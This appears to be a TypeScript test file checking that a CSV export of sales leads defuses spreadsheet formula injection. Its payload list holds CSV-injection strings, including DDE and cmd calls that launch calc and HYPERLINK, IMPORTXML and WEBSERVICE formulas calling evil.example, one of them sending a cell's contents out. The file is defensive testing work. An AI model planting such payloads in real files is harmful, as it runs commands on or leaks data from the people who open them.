import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { toCsv } from './csv';

/** Reads a file by RFC 4180. */
function readCsv(text: string, separator: ',' | ';' = ','): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  for (let at = 0; at < text.length; ) {
    let cell = '';
    if (text[at] === '"') {
      for (at += 1; !(text[at] === '"' && text[at + 1] !== '"'); at += text[at] === '"' ? 2 : 1) cell += text[at];
      at += 1;
    } else while (at < text.length && text[at] !== separator && text[at] !== '\r') cell += text[at++];
    row.push(cell);
    if (text[at] === separator) at += 1;
    else {
      at += 2;
      rows.push(row);
      row = [];
    }
  }
  return rows;
}

/** The cells in a spreadsheet that uses this separator and understands quotes only around a whole cell. */
const cellsOf = (text: string, separator: RegExp): string[] => text.split(separator);

const STARTS = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'];
const PAYLOADS = [
  '1+1',
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://evil.example?x="&A1,"klik")',
  'SUM(A1:A9)*cmd|calc!A0',
  'IMPORTXML("http://evil.example","//a")',
  '10,20',
  'a"b',
  'x\n=1+1',
  'x;=1+1;y',
  '',
  '2+5+cmd|calc!A0',
  'WEBSERVICE("http://evil.example")',
  'DDE("cmd";"/C calc";"A")',
  '32 470 00 00 31',
  "'already'",
  'A1&B1',
  '"=1+1"',
  'x\t=1+1',
  'x\r\n+1',
  'é€ß',
];
const CELLS = STARTS.flatMap((start) => PAYLOADS.map((payload) => start + payload));
const IS_FORMULA = /^[=+\-@\t\r＝＋－＠]/;

describe('the CSV export of leads (RELIABILITY S6)', () => {
  it(`opens each of ${CELLS.length} hostile cells as text`, () => {
    expect(CELLS.length).toBe(200);
    for (const separator of [',', ';'] as const) {
      const file = toCsv([CELLS, ...CELLS.map((cell) => [cell, 'naast', cell])], separator);
      const cells = readCsv(file, separator).flat();
      expect(cells).toHaveLength(CELLS.length * 4);
      for (const cell of cells) expect(cell).not.toMatch(IS_FORMULA);
    }
  });

  it('contains no cell that a spreadsheet would calculate, even if it splits lines at semicolons or tabs', () => {
    for (const written of [',', ';'] as const) {
      const file = toCsv(
        CELLS.map((cell) => ['id', cell, 'naast']),
        written,
      );
      for (const separator of [/;|\r\n|\n|\r/, /\t|\r\n|\n|\r/])
        for (const cell of cellsOf(file, separator)) expect(cell).not.toMatch(/^[=+@＝＋－＠]|^-/);
    }
  });

  it('leaves every harmless cell unchanged', () => {
    const rows = [
      ['naam', 'e-mail'],
      ['Peeters, An', 'an@voorbeeld.be'],
      ['Zij zei "dag"', 'a\nb'],
      ['', 'Ça va ?'],
    ];
    expect(readCsv(toCsv(rows))).toEqual(rows);
    expect(readCsv(toCsv(rows, ';'), ';')).toEqual(rows);
  });

  it('follows RFC 4180 for any content: the same cells are read back, apart from apostrophes', () => {
    const cell = fc.string({ unit: fc.constantFrom('a', '"', ',', ';', '\r', '\n', '=', '-', "'", ' ', 'é') });
    fc.assert(
      fc.property(fc.array(fc.array(cell, { minLength: 1, maxLength: 4 }), { maxLength: 4 }), (rows) => {
        const plain = (table: readonly (readonly string[])[]) =>
          table.map((cells) => cells.map((text) => text.replaceAll("'", '')));
        const back = readCsv(toCsv(rows));
        expect(plain(back)).toEqual(plain(rows));
        for (const text of back.flat()) expect(text).not.toMatch(IS_FORMULA);
      }),
    );
  });
});
